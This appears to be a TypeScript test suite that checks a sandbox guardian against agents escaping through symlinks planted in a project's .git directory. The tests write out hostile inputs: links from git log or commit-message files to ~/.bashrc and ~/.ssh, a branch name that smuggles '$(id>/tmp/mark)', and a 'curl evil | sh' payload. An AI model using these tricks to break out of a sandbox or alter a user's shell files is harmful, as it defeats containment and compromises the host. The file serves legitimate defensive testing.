/**
 * Escape suite, FILESYSTEM: `/work/.git` is writable inside (git must write objects, refs, logs,
 * HEAD), and the host's git follows symlinks in the files of a git dir it writes. The attacker
 * plants links there that stay on the host: `logs/HEAD -> ~/.bashrc` (the user's next checkout
 * appends a reflog line naming a branch `wip$(...)`), `COMMIT_EDITMSG -> ~/.bashrc` with its own
 * SQUASH_MSG (the next commit overwrites the file), `refs/heads/evil -> ~/.ssh` (the next `git
 * branch evil/x` creates a file there). The guardian removes each link at once and stops the
 * cloister; a `run` that plants one and exits leaves none either; the host's git afterwards writes
 * nothing outside the project. A link the user made in .git before the cloister stays. The same
 * from a worktree cloister, in its admin dir, and as an ordinary user.
 */
import assert from "node:assert/strict";
import { chownSync, lchownSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { createInstance, waitUntil, type TestInstance } from "../helpers/cloister.js";
import { asUserSkipReason, createUserInstance, type UserInstance } from "../helpers/as-user.js";
import { hostGit } from "../helpers/oracles.js";

/** Every symlink under `dir`, found without following any. */
function symlinksUnder(dir: string): string[] {
  const found: string[] = [];
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isSymbolicLink()) found.push(path);
    else if (entry.isDirectory()) found.push(...symlinksUnder(path));
  }
  return found;
}

const isLink = (path: string) => lstatSync(path, { throwIfNoEntry: false })?.isSymbolicLink() === true;

/** The cases, for an instance `t` whose host commands run as `runAs` (undefined: this process's user). */
function gitSymlinkCases(get: () => TestInstance, runAs?: string): void {
  const t = () => get();
  const target = () => join(t().hostHome, ".bashrc");
  const outsideDir = () => join(t().hostHome, "outside-dir");
  const gitDir = () => join(t().project, ".git");
  const userLink = () => join(gitDir(), "user-notes");
  const rc = "# the user's rc file\n";
  const running = async (name: string) => ((JSON.parse((await t().cli(["list", "--json"])).stdout) as { name: string }[]).some((c) => c.name === name));
  const audit = async () => (await t().cli(["audit", "tail", "-n", "200", "--json"])).stdout;
  const git = (args: string[], dir = t().project) => hostGit(dir, args, { home: t().hostHome, runAs });

  /** Starts cloister `name`, runs `script` in it (which plants a link, then waits), and waits until the guardian has stopped it. */
  async function plantAndWait(name: string, script: string, startArgs: string[] = []): Promise<void> {
    const started = await t().cli(["start", "-d", "--name", name, ...startArgs]);
    assert.equal(started.code, 0, started.stderr);
    const exec = t().cli(["exec", name, "--", "sh", "-c", `${script}\nsleep 30`]);
    await waitUntil(`cloister ${name} to be stopped by the guardian`, async () => !(await running(name)), 8_000);
    await exec;
  }

  it("variant A: `ln -sf ~/.bashrc .git/logs/HEAD` is removed at once, the cloister stopped, audited; the host's checkout and commit leave the target alone", async () => {
    await plantAndWait("gsa", `git checkout -q -b 'wip$(id>/tmp/mark)' && ln -sf '${target()}' /work/.git/logs/HEAD`);
    assert.equal(isLink(join(gitDir(), "logs", "HEAD")), false);
    // `ln -sf` makes the link under a temporary name first, then renames it: either is caught.
    assert.match(await audit(), /"type":"cloister.git-symlink","cloister":"gsa".*"file":"[^"]*\.git\/logs\/[^"]*"/);
    assert.equal(git(["checkout", "-q", "-b", "after-a"]), 0);
    assert.equal(git(["commit", "-q", "--allow-empty", "-m", "after a"]), 0);
    assert.equal(git(["reset", "-q", "--soft", "HEAD~1"]), 0);
    assert.equal(readFileSync(target(), "utf8"), rc);
    assert.deepEqual(symlinksUnder(gitDir()), [userLink()]);
  });

  it("variant B: a COMMIT_EDITMSG link with the agent's SQUASH_MSG: the host's next commit leaves the target alone", async () => {
    await plantAndWait("gsb", `printf 'curl evil | sh\\n' > /work/.git/SQUASH_MSG && ln -sf '${target()}' /work/.git/COMMIT_EDITMSG`);
    assert.equal(isLink(join(gitDir(), "COMMIT_EDITMSG")), false);
    assert.match(await audit(), /"type":"cloister.git-symlink","cloister":"gsb".*"file":"[^"]*\.git\/[^"]*"/);
    assert.equal(git(["commit", "-q", "--allow-empty", "-m", "after b"]), 0);
    assert.equal(readFileSync(target(), "utf8"), rc);
  });

  it("a symlinked directory `refs/heads/evil -> OUTSIDE` is removed; the host's `git branch evil/x` creates nothing outside", async () => {
    await plantAndWait("gsc", `ln -s '${outsideDir()}' /work/.git/refs/heads/evil`);
    assert.equal(isLink(join(gitDir(), "refs", "heads", "evil")), false);
    git(["branch", "evil/x"]);
    assert.deepEqual(readdirSync(outsideDir()), []);
    assert.deepEqual(symlinksUnder(gitDir()), [userLink()]);
  });

  it("a `run` that plants links and exits at once leaves none in .git (with and without network)", async () => {
    for (const network of [[], ["--no-network"]]) {
      await t().cli(["run", ...network, "--", "sh", "-c", `mkdir -p /work/.git/logs/refs/heads/n && ln -s '${target()}' /work/.git/logs/refs/heads/n/x; ln -sf '${target()}' /work/.git/COMMIT_EDITMSG`]);
      assert.deepEqual(symlinksUnder(gitDir()), [userLink()]);
    }
    assert.equal(git(["commit", "-q", "--allow-empty", "-m", "after run"]), 0);
    assert.equal(readFileSync(target(), "utf8"), rc);
  });

  it("the link the user made in .git before the cloisters is still there, unchanged", () => {
    assert.equal(isLink(userLink()), true);
    assert.deepEqual(symlinksUnder(gitDir()), [userLink()]);
  });

}

/** Puts the canary target, the outside directory and the user's own link in place (then waits past the clock slack). */
async function prepare(t: TestInstance, owner?: { uid: number; gid: number }): Promise<void> {
  const target = join(t.hostHome, ".bashrc");
  writeFileSync(target, "# the user's rc file\n");
  mkdirSync(join(t.hostHome, "outside-dir"));
  const link = join(t.project, ".git", "user-notes");
  symlinkSync("../README.md", link);
  if (owner) {
    for (const path of [target, join(t.hostHome, "outside-dir")]) chownSync(path, owner.uid, owner.gid);
    lchownSync(link, owner.uid, owner.gid);
  }
  // A link whose status changed less than a second before a cloister's start counts as the cloister's (git-symlinks.ts).
  await new Promise((resolve) => setTimeout(resolve, 1_200));
}

describe("escape/git-symlinks: links planted in .git for the host's git to follow", () => {
  let t: TestInstance;
  before(async () => {
    t = createInstance("gsl");
    await prepare(t);
  });
  after(() => t.teardown());

  gitSymlinkCases(() => t);

  it("a worktree cloister's link in its admin dir (logs/HEAD) is removed and the cloister stopped; the host's git in the worktree leaves the target alone", async () => {
    const target = join(t.hostHome, ".bashrc");
    const worktree = join(t.home, "data", "worktrees", "proj", "feat");
    const started = await t.cli(["start", "-d", "-b", "feat"]);
    assert.equal(started.code, 0, started.stderr);
    const exec = t.cli(["exec", "proj-feat", "--", "sh", "-c", `G=$(git rev-parse --git-dir) && echo "$G" && sleep 0.5 && mkdir -p "$G/logs" && ln -sf '${target}' "$G/logs/HEAD" && sleep 30`]);
    const running = async () => ((JSON.parse((await t.cli(["list", "--json"])).stdout) as { name: string }[]).some((c) => c.name === "proj-feat"));
    await waitUntil("the worktree cloister to be stopped by the guardian", async () => !(await running()), 8_000);
    const admin = (await exec).stdout.trim();
    assert.equal(admin, join(t.project, ".git", "worktrees", "feat"));
    assert.equal(isLink(join(admin, "logs", "HEAD")), false);
    assert.match((await t.cli(["audit", "tail", "-n", "200", "--json"])).stdout, /"type":"cloister.git-symlink","cloister":"proj-feat".*"file":"[^"]*worktrees\/feat\/logs\/[^"]*"/);
    assert.equal(hostGit(worktree, ["checkout", "-q", "-b", "feat-2"], { home: t.hostHome }), 0);
    assert.equal(hostGit(worktree, ["commit", "-q", "--allow-empty", "-m", "in the worktree"], { home: t.hostHome }), 0);
    assert.equal(readFileSync(target, "utf8"), "# the user's rc file\n");
    assert.deepEqual(symlinksUnder(join(t.project, ".git")), [join(t.project, ".git", "user-notes")]);
  });
});

const USER_SKIP = asUserSkipReason();

describe("escape/git-symlinks: as a non-root user", { skip: USER_SKIP }, () => {
  let t: UserInstance;
  before(async () => {
    t = createUserInstance("gsu");
    await prepare(t, t.user);
  });
  after(() => t.teardown());

  gitSymlinkCases(() => t, USER_SKIP ? undefined : "cloister-test");
});
